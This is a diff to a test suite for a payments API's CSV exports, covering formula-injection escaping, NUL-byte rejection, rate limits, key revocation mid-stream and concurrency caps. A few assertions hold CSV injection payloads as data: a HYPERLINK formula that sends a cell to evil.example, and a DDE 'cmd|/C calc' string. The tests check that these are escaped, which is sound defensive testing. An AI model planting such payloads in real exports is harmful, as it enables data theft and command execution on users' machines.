@@ -100,6 +100,8 @@ describe('CSV exports', () => {
     expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"');
     expect(text).toContain("'-2+3+cmd|' /C calc'!A0");
     expect(text).toContain("'+79990001122");
+    expect(text).toContain(',"desk; =cmd",'); // tags are joined by "; ": quoted, so a spreadsheet splitting on ; keeps them one cell
+    expect(text).toContain('"\'-2+3+cmd|\' /C calc\'!A0"');
     expect(text).not.toMatch(/(^|,)[=+@-][^0-9]/m); // no cell starts a formula
     const deleted = await exportOf({ deleted: true });
     expect(deleted.map((r) => [r[0], r[col('description')], r[col('deleted')]])).toEqual([[ids[2], "'@SUM(1+1)", 'true']]);
@@ -128,6 +130,9 @@ describe('CSV exports', () => {
     ['a range the wrong way round', `filter=${encodeURIComponent('{"amountFrom":"10","amountTo":"1"}')}`, 400, 'BAD_USER_INPUT', /amountFrom must not be after/],
     ['the filter twice', 'filter=%7B%7D&filter=%7B%7D', 400, 'BAD_USER_INPUT', /given once/],
     ['an unknown saved filter', `filter=${encodeURIComponent('{"savedFilterId":"flt_nope"}')}`, 404, 'NOT_FOUND', /savedFilterId/],
+    ['a NUL in clientId', `filter=${encodeURIComponent('{"clientId":"a\\u0000"}')}`, 400, 'BAD_USER_INPUT', /clientId/],
+    ['a NUL in gatewayId', `filter=${encodeURIComponent('{"gatewayId":"a\\u0000"}')}`, 400, 'BAD_USER_INPUT', /gatewayId/],
+    ['a NUL in ids', `filter=${encodeURIComponent('{"ids":["pay_\\u0000"]}')}`, 400, 'BAD_USER_INPUT', /ids/],
   ])('refuses %s with a JSON error', async (_label, query, status, code, message) => {
     const res = await get(`/exports/payments.csv?${query}`, shop.token);
     expect(res.status).toBe(status);
@@ -214,17 +219,19 @@ describe('CSV exports', () => {
   it('exports a client\'s ledger of the key\'s environment, oldest first, with the balance after each entry', async () => {
     const adjust = (amount: string, reason: string) => gqlOk('mutation($i: BalanceAdjustmentInput!) { adjustBalance(input: $i) { id } }', { i: { clientId: shop.clientId, amount, reason } }, shop.token);
     await adjust('150.25', 'desk cash');
-    await adjust('-50.05', '=1+1 correction');
+    await adjust('-50.05', '=1+1; correction');
     await gqlOk('mutation($i: BalanceAdjustmentInput!) { adjustBalance(input: $i) { id } }', { i: { clientId: shop.clientId, amount: '9', reason: 'live one' } }, shop.liveToken);
     const res = await get(`/exports/clients/${shop.clientId}/ledger.csv`, shop.token);
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
-    const [header, ...rows] = parseCsv(await res.text());
+    const text = await res.text();
+    const [header, ...rows] = parseCsv(text);
     expect(header).toEqual(['id', 'at', 'kind', 'amount', 'balanceAfter', 'currency', 'paymentId', 'refundId', 'reason', 'actor']);
     expect(rows.map((r) => [r[2], r[3], r[4], r[5], r[8]])).toEqual([
       ['ADJUSTMENT', '150.25', '150.25', 'RUB', 'desk cash'],
-      ['ADJUSTMENT', '-50.05', '100.20', 'RUB', "'=1+1 correction"],
+      ['ADJUSTMENT', '-50.05', '100.20', 'RUB', "'=1+1; correction"],
     ]);
+    expect(text).toContain(`,"'=1+1; correction",`); // one quoted cell where a spreadsheet splits on ; too
     expect(rows[0][1]).toMatch(/\+05:30$/);
     const live = parseCsv(await (await get(`/exports/clients/${shop.clientId}/ledger.csv`, shop.liveToken)).text());
     expect(live.slice(1).map((r) => [r[3], r[8]])).toEqual([['9.00', 'live one']]);
@@ -256,5 +263,139 @@ describe('CSV exports', () => {
     expect(refused?.status).toBe(429);
     expect(Number(refused!.headers.get('retry-after'))).toBeGreaterThan(0);
     expect(((await refused!.json()) as { code: string }).code).toBe('RATE_LIMITED');
+  });
+
+  describe('a large export', () => {
+    const BIG = 'client_big';
+    const ROWS = 10_000; // 3 KB each: 30 MB, more than the sockets between server and test hold
+    const bigPath = `/exports/payments.csv?filter=${encodeURIComponent(JSON.stringify({ clientId: BIG }))}`;
+    /** Reads a response to its end, or to where the server cut it. */
+    const drain = async (res: Response) => {
+      const reader = res.body!.getReader();
+      const decoder = new TextDecoder();
+      let text = '';
+      try {
+        for (;;) {
+          const { done, value } = await reader.read();
+          if (done) return { text, complete: true };
+          text += decoder.decode(value, { stream: true });
+        }
+      } catch {
+        return { text, complete: false };
+      }
+    };
+    const rowsIn = (text: string) => text.split('\r\n').length - 2; // the header, and what follows the last CRLF
+
+    beforeAll(async () => {
+      await gqlOk(`mutation { upsertClient(input: { id: "${BIG}", clubId: "club_abc123" }) { id } }`, {}, shop.token);
+      const { rows: cols } = await t.deps.pg.query<{ column_name: string }>(`SELECT column_name FROM information_schema.columns WHERE table_name = 'Payment' AND table_schema = current_schema()`);
+      const fixed: Record<string, string> = {
+        id: `'pay_big_' || lpad(g::text, 6, '0')`, clientId: `'${BIG}'`, idempotencyKey: 'NULL', gatewayTransactionId: 'NULL',
+        createdAt: `timestamptz '2025-01-01T00:00:00Z' + (g || ' seconds')::interval`, description: `repeat('x', 500)`,
+        tags: `array_fill(repeat('t', 60), ARRAY[40])::varchar(64)[]`,
+      };
+      const names = cols.map((c) => c.column_name);
+      await t.deps.pg.query(`INSERT INTO "Payment" (${names.map((c) => `"${c}"`).join(', ')})
+        SELECT ${names.map((c) => (c in fixed ? fixed[c] : `p."${c}"`)).join(', ')} FROM "Payment" p, generate_series(1, ${ROWS}) g WHERE p.id = $1`, [ids[3]]);
+    });
+
+    it('is charged per chunk after the first: when the key\'s limit runs out the transfer is cut, never a complete-looking file', async () => {
+      // 200 up front with the first chunk, then 10 units per chunk of 1 000 rows: chunks 2-6 fit in 250, the seventh does not
+      const minute = () => Math.floor(Date.now() / 60_000);
+      let key: { token: string };
+      let cut: { text: string; complete: boolean };
+      let started: number;
+      do { // the limit's window is the clock's minute: an attempt that straddles two is made again
+        started = minute();
+        key = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST', rateLimitPerMinute: 250 });
+        const res = await get(bigPath, key.token);
+        expect(res.status).toBe(200);
+        cut = await drain(res);
+      } while (minute() !== started);
+      const { text, complete } = cut;
+      expect(complete).toBe(false);
+      expect(rowsIn(text)).toBeGreaterThan(0);
+      expect(rowsIn(text)).toBeLessThanOrEqual(6000); // what was still in the server's buffers when it was cut is lost
+      const next = await get(`/exports/clients/${shop.clientId}/ledger.csv`, key.token);
+      expect([next.status, ((await next.json()) as { code: string }).code]).toEqual([429, 'RATE_LIMITED']);
+      // a key with room for it gets every row, the file ending with its last CRLF
+      const whole = await drain(await get(bigPath, shop.token));
+      expect([whole.complete, rowsIn(whole.text)]).toEqual([true, ROWS]);
+    });
+
+    it('a key revoked while its export streams: the stream is cut at the next chunk, and the next request is 401', async () => {
+      const key = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST' });
+      const res = await get(bigPath, key.token);
+      expect(res.status).toBe(200);
+      const reader = res.body!.getReader();
+      await reader.read();
+      await t.deps.db.apiToken.update({ where: { id: key.id }, data: { revokedAt: new Date() } });
+      let bytes = 0;
+      let cut = false;
+      try {
+        for (;;) {
+          const { done, value } = await reader.read();
+          if (done) break;
+          bytes += value.length;
+        }
+      } catch {
+        cut = true;
+      }
+      expect(cut).toBe(true);
+      expect(bytes).toBeLessThan(ROWS * 3000 / 2);
+      const after = await get(bigPath, key.token);
+      expect([after.status, await after.json()]).toEqual([401, { error: 'Invalid API key', code: 'UNAUTHENTICATED' }]);
+    });
+
+    it('runs at most 2 exports per key and 2 per process (half the pool of 5) at once: more is 429 with Retry-After; a slot is freed when a reader goes', async () => {
+      const a = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST' });
+      const b = await makeToken(t.deps, shop.orgId, 'VIEWER', { environment: 'TEST' });
+      const open = [await get(bigPath, a.token), await get(bigPath, a.token)]; // stalled: nobody reads them
+      expect(open.map((r) => r.status)).toEqual([200, 200]);
+      for (const token of [a.token, b.token]) {
+        const refused = await get(bigPath, token);
+        expect(refused.status).toBe(429);
+        expect(Number(refused.headers.get('retry-after'))).toBeGreaterThan(0);
+        expect(await refused.json()).toEqual({ error: expect.stringMatching(token === a.token ? /this key already has 2 exports/ : /as many exports as it runs at once/), code: 'RATE_LIMITED' });
+      }
+      // the rest of the API is not held up by the stalled exports: they hold no pool connection
+      const started = Date.now();
+      expect((await t.gql('{ payments(first: 1) { edges { node { id } } } }', {}, b.token)).status).toBe(200);
+      expect(Date.now() - started).toBeLessThan(2000);
+      await open[0].body!.cancel();
+      let again: Response | undefined;
+      for (let i = 0; i < 50 && again?.status !== 200; i++) {
+        if (again) await again.text();
+        await new Promise((r) => setTimeout(r, 20));
+        again = await get(`/exports/clients/${shop.clientId}/ledger.csv`, b.token);
+      }
+      expect(again!.status).toBe(200);
+      await again!.text();
+      await open[1].body!.cancel();
+    });
+
+    it('a stalled reader does not hold up a graceful shutdown: its export is cut', async () => {
+      const second = await startTestApp('exportsclose', { DATABASE_URL: t.deps.config.databaseUrl.reveal() });
+      try {
+        const res = await fetch(`${second.url}${bigPath}`, { headers: { authorization: `Bearer ${shop.token}` } });
+        expect(res.status).toBe(200);
+        const started = Date.now();
+        await second.app.close();
+        expect(Date.now() - started).toBeLessThan(5000);
+        expect((await drain(res)).complete).toBe(false);
+      } finally {
+        await second.close().catch(() => undefined);
+      }
+    });
+
+    it('a client id of 128 characters (percent-encoded: longer) has its ledger exported', async () => {
+      const id = `${'c'.repeat(100)}:@${'d'.repeat(26)}`;
+      expect(id).toHaveLength(128);
+      await gqlOk(`mutation { upsertClient(input: { id: "${id}", clubId: "club_abc123" }) { id } }`, {}, shop.token);
+      for (const path of [`/exports/clients/${id}/ledger.csv`, `/exports/clients/${encodeURIComponent(id)}/ledger.csv`]) {
+        const res = await get(path, shop.token);
+        expect([res.status, parseCsv(await res.text())]).toEqual([200, [['id', 'at', 'kind', 'amount', 'balanceAfter', 'currency', 'paymentId', 'refundId', 'reason', 'actor']]]);
+      }
+    });
   });
 });
